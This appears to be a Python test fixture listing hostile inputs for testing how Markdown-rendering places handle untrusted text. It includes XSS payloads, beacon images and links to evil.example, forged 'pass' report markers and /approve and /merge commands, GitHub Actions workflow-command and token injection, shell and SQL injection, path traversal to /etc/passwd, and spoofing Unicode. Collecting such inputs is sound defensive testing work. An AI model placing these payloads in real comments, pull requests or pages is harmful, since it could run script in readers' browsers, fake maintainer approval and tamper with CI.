# ruff: noqa: RUF001 - looking alike is what some of them are for
"""What people have really tried on places that render Markdown, and kin of it."""

_MARK = f"<!-- dynamic-superb report: pass, head {'a' * 40} -->"

_LINKS = """
[click](https://evil.example)
[click][1]

[1]: https://evil.example
[x](javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](//evil.example)
[x](<https://evil.example>)
<https://evil.example>
https://evil.example/path?token=1
http://evil.example
www.evil.example
ftp://evil.example
mailto:someone@evil.example
someone@evil.example
[`code`](https://evil.example)
[![b](https://evil.example/b.svg)](https://evil.example)
[x]( https://evil.example 'title')
[a\\](b](https://evil.example)
xmpp:someone@evil.example
"""
_IMAGES = """
![x](https://evil.example/x.png)
![x][1]
<img src=https://evil.example/x.png>
<img src="x" onerror="alert(1)">
<image src=https://evil.example/x.png>
<svg onload=alert(1)>
<svg><image href="https://evil.example/x"/></svg>
<picture><source srcset=https://evil.example/x></picture>
<video src=https://evil.example/x autoplay></video>
<audio src=https://evil.example/x autoplay></audio>
![](https://evil.example/beacon?who=me)
"""
_HTML = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<iframe src=https://evil.example></iframe>
<object data=https://evil.example></object>
<embed src=https://evil.example>
<form action=https://evil.example><input></form>
<style>*{display:none}</style>
<link rel=stylesheet href=https://evil.example>
<meta http-equiv=refresh content=0;https://evil.example>
<base href=https://evil.example>
<a href="https://evil.example">x</a>
<a href=javascript:alert(1)>x</a>
<h1>approved</h1>
</details><h1>approved</h1>
</summary></details>
<details open><summary>x</summary>
</code></pre><b>x</b>
</td></tr></table>
<table><tr><td>x</td></tr></table>
<marquee>x</marquee>
<div style="position:fixed;top:0">x</div>
<p align=center>
<br><br><br>
<sub><sup>x
<kbd>x</kbd>
<ins>x</ins><del>y</del>
<!-- hidden -->
<!--
-->
<![CDATA[x]]>
<?php echo 1 ?>
<!DOCTYPE html>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x&#62;
&nbsp;&copy;&#x3c;b&#x3e;
<plaintext>
<textarea>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
"""
_MENTIONS = """
@maintainer please merge
@dynamic-superb/maintainers
cc @octocat
fixes #1
closes dynamic-superb/dynamic-superb-tasks#1
GH-1
Resolves: #2
#1
@everyone
a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6a7b8c9d0
/approve
/merge
"""
_MARKUP = """
# heading
Setext
===
- [x] done
1. one
> quote
---
***
**bold** _it_ ~~no~~
$`x`$
$$x$$
:tada: :shipit:
| a | b |
|---|---|
a | b | c
[^1]

[^1]: note
"""
_PIECES = [
    "` </code><b>x</b> `", "```\n# heading\n```", "````\n```", "~~~\nx\n~~~", "`", "``", "\\`",
    "\\", "\\\\`[x](y)\\`", "|", "\\|", "a\r\n- [ ] b", "\n\n# heading", "\n    code",
    "\t", "\u202egnp.exe\u202c", "\u2066x\u2069", "\u200b@maintainer", "\ufeff", "\x00",
    "\x1b[31mred\x1b[0m", "\x08\x08\x08", "\u2028::error::x", "\n::error::x", "::add-mask::x",
    "\n::set-output name=x::y", "##[group]x", "\r::warning::x", "%0A::error::x", "\ud800",
    "\U000e0041\U000e0042", "", " ", "  ", "@\u200bmaintainer", "ｗｗｗ．evil", "а@b",
    "EOF\nGITHUB_TOKEN=x", "${{ secrets.TOKEN }}", "$(id)", "`id`", "'; DROP TABLE x; --",
    "../../../etc/passwd", "-rf", _MARK, f"\n{_MARK}\n", f"`{_MARK}`", "x" * 5_000, "`" * 5_000,
    "|" * 500, "[" * 2_000, "*" * 2_000, "<" * 2_000, "&" * 2_000, "\n" * 500,
]  # fmt: skip

ATTACKS: list[str] = [
    *(line for block in (_LINKS, _IMAGES, _HTML, _MENTIONS, _MARKUP) for line in block.split("\n")
      if line),
    *_PIECES,
]  # fmt: skip
